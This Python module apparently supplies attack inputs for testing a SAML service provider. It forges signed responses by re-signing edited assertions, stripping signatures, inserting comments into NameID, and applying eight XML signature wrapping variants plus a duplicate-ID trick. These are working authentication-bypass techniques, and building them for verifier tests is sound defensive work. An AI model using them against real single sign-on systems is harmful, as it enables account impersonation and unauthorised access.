"""Answers as an attacker would change them, with and without the provider's key."""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path

import xmlsec
from lxml import etree

NS = {
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
}
ATTACKER = "attaquant"


def edited(xml: bytes, path: str, value: str, *, attribute: str = "", key: Path) -> bytes:
    """The response with one value changed everywhere it stands, signed again by the provider's own key."""
    root = etree.fromstring(xml)
    found = root.xpath(path, namespaces=NS)
    assert found, path
    for node in found:
        if attribute:
            node.set(attribute, value)
        else:
            node.text = value
    return signed_again(root, key)


def signed_again(root: etree._Element, key: Path) -> bytes:
    [assertion] = root.xpath("//saml:Assertion", namespaces=NS)
    for former in assertion.findall("ds:Signature", NS):
        assertion.remove(former)
    template = xmlsec.template.create(
        assertion, xmlsec.constants.TransformExclC14N, xmlsec.constants.TransformRsaSha256
    )
    reference = xmlsec.template.add_reference(
        template, xmlsec.constants.TransformSha256, uri=f"#{assertion.get('ID')}"
    )
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    assertion.insert(1, template)
    context = xmlsec.SignatureContext()
    context.register_id(assertion, "ID")
    context.key = xmlsec.Key.from_file(str(key), xmlsec.constants.KeyDataFormatPem)
    context.sign(template)
    return etree.tostring(root)


def without_signature(xml: bytes) -> bytes:
    root = etree.fromstring(xml)
    for signature in root.xpath("//ds:Signature", namespaces=NS):
        signature.getparent().remove(signature)
    return etree.tostring(root)


def comment_in_name(xml: bytes) -> bytes:
    """`admin<!-- -->.attaquant`: the signature holds, since comments are not signed."""
    root = etree.fromstring(xml)
    [name] = root.xpath("//saml:NameID", namespaces=NS)
    text = name.text
    name.text = text[:3]
    comment = etree.Comment("coupe")
    comment.tail = text[3:]
    name.append(comment)
    return etree.tostring(root)


# Signature wrapping, after Somorovsky and others (On Breaking SAML, 2012): the signed element is kept somewhere, and
# another one is put where it will be read.


def _parts(xml: bytes) -> tuple[etree._Element, etree._Element, etree._Element]:
    root = etree.fromstring(xml)
    [original] = root.xpath("//saml:Assertion", namespaces=NS)
    evil = copy.deepcopy(original)
    evil.set("ID", "_evil")
    [name] = evil.xpath(".//saml:NameID", namespaces=NS)
    name.text = ATTACKER
    return root, original, evil


def _bare(evil: etree._Element) -> etree._Element:
    for signature in evil.findall("ds:Signature", NS):
        evil.remove(signature)
    return evil


def _response_wrapped(xml: bytes, *, inside_signature: bool) -> bytes:
    evil = etree.fromstring(xml)
    original = copy.deepcopy(evil)
    signature = evil.find("ds:Signature", NS)
    inner = original.find("ds:Signature", NS)
    assert signature is not None
    assert inner is not None
    original.remove(inner)
    evil.set("ID", "_evil")
    [name] = evil.xpath("saml:Assertion//saml:NameID", namespaces=NS)
    name.text = ATTACKER
    if inside_signature:
        signature.append(original)
    else:
        signature.addprevious(original)
    return etree.tostring(evil)


def xsw1(xml: bytes) -> bytes:
    return _response_wrapped(xml, inside_signature=True)


def xsw2(xml: bytes) -> bytes:
    return _response_wrapped(xml, inside_signature=False)


def xsw3(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    original.addprevious(_bare(evil))
    return etree.tostring(root)


def xsw4(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    root.replace(original, _bare(evil))
    evil.append(original)
    return etree.tostring(root)


def xsw5(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    root.replace(original, evil)
    root.append(_bare(original))
    return etree.tostring(root)


def xsw6(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    root.replace(original, evil)
    evil.find("ds:Signature", NS).append(_bare(original))
    return etree.tostring(root)


def xsw7(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(_bare(evil))
    original.addprevious(extensions)
    return etree.tostring(root)


def xsw8(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    root.replace(original, evil)
    holder = etree.SubElement(evil.find("ds:Signature", NS), f"{{{NS['ds']}}}Object")
    holder.append(_bare(original))
    return etree.tostring(root)


def same_identifier_twice(xml: bytes) -> bytes:
    root, original, evil = _parts(xml)
    evil.set("ID", original.get("ID"))
    root.insert(0, _bare(evil))
    return etree.tostring(root)


WRAPPINGS: list[Callable[[bytes], bytes]] = [
    xsw1,
    xsw2,
    xsw3,
    xsw4,
    xsw5,
    xsw6,
    xsw7,
    xsw8,
    same_identifier_twice,
]
